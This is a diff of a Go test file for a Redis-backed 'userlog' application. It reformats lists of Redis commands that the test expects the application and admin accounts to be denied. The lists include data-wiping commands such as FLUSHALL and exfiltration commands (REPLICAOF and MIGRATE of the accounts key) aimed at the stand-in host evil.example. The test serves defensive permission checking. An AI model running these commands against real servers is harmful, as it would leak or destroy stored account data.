@@ -85,13 +85,37 @@ func TestTheACLOfTheDocs(t *testing.T) {
 
 	// What somebody who has got hold of the password can't do.
 	mayNot(t, as(server, "userlog-application"), [][]any{
-		{"HGETALL", "userlog:accounts"}, {"GET", "userlog:session:x"}, {"XRANGE", "userlog:{audit}:records", "-", "+"}, {"LRANGE", "userlog:log:ada", 0, -1},
-		{"DEL", "userlog:{audit}:records"}, {"KEYS", "*"}, {"SCAN", 0}, {"FLUSHALL"}, {"CONFIG", "GET", "*"}, {"SET", "other", "x"},
-		{"LRANGE", "userlog:kept:{userlog:log:ada}", 0, -1}, {"SUBSCRIBE", "userlog:log:ada"}, {"PUBLISH", "other", "x"}, {"EVAL", "return 1", 0}, {"ACL", "LIST"}, {"MONITOR"},
+		{"HGETALL", "userlog:accounts"},
+		{"GET", "userlog:session:x"},
+		{"XRANGE", "userlog:{audit}:records", "-", "+"},
+		{"LRANGE", "userlog:log:ada", 0, -1},
+		{"DEL", "userlog:{audit}:records"},
+		{"KEYS", "*"},
+		{"SCAN", 0},
+		{"FLUSHALL"},
+		{"CONFIG", "GET", "*"},
+		{"SET", "other", "x"},
+		{"LRANGE", "userlog:kept:{userlog:log:ada}", 0, -1},
+		{"SUBSCRIBE", "userlog:log:ada"},
+		{"PUBLISH", "other", "x"},
+		{"EVAL", "return 1", 0},
+		{"ACL", "LIST"},
+		{"MONITOR"},
 	})
 	mayNot(t, as(server, "userlog-admin"), [][]any{
-		{"FLUSHALL"}, {"KEYS", "*"}, {"SCAN", 0}, {"CONFIG", "GET", "*"}, {"SET", "other", "x"}, {"ACL", "LIST"}, {"SHUTDOWN"}, {"SCRIPT", "FLUSH"},
-		{"CLIENT", "LIST"}, {"PUBLISH", "other", "x"}, {"MONITOR"}, {"REPLICAOF", "evil.example", "6379"}, {"MIGRATE", "evil.example", "6379", "userlog:accounts", 0, 10},
+		{"FLUSHALL"},
+		{"KEYS", "*"},
+		{"SCAN", 0},
+		{"CONFIG", "GET", "*"},
+		{"SET", "other", "x"},
+		{"ACL", "LIST"},
+		{"SHUTDOWN"},
+		{"SCRIPT", "FLUSH"},
+		{"CLIENT", "LIST"},
+		{"PUBLISH", "other", "x"},
+		{"MONITOR"},
+		{"REPLICAOF", "evil.example", "6379"},
+		{"MIGRATE", "evil.example", "6379", "userlog:accounts", 0, 10},
 	})
 }
 
@@ -109,8 +133,12 @@ func useThePages(t *testing.T, url string) {
 	}
 	for _, form := range [][]string{
 		{"/reason", "username", "ada", "reason", "ticket 12", "next", "/userlog/static?username=ada"},
-		{"/accounts/create", "name", "vera", "role", "viewer"}, {"/accounts/role", "name", "vera", "role", "superuser"},
-		{"/accounts/sessions", "name", "vera"}, {"/accounts/link", "name", "vera"}, {"/accounts/disable", "name", "vera"}, {"/accounts/enable", "name", "vera"},
+		{"/accounts/create", "name", "vera", "role", "viewer"},
+		{"/accounts/role", "name", "vera", "role", "superuser"},
+		{"/accounts/sessions", "name", "vera"},
+		{"/accounts/link", "name", "vera"},
+		{"/accounts/disable", "name", "vera"},
+		{"/accounts/enable", "name", "vera"},
 		{"/account/token", "label", "ci", "days", "30"},
 	} {
 		if p := v.send("/userlog"+form[0], form[1:]...); p.status != http.StatusOK {
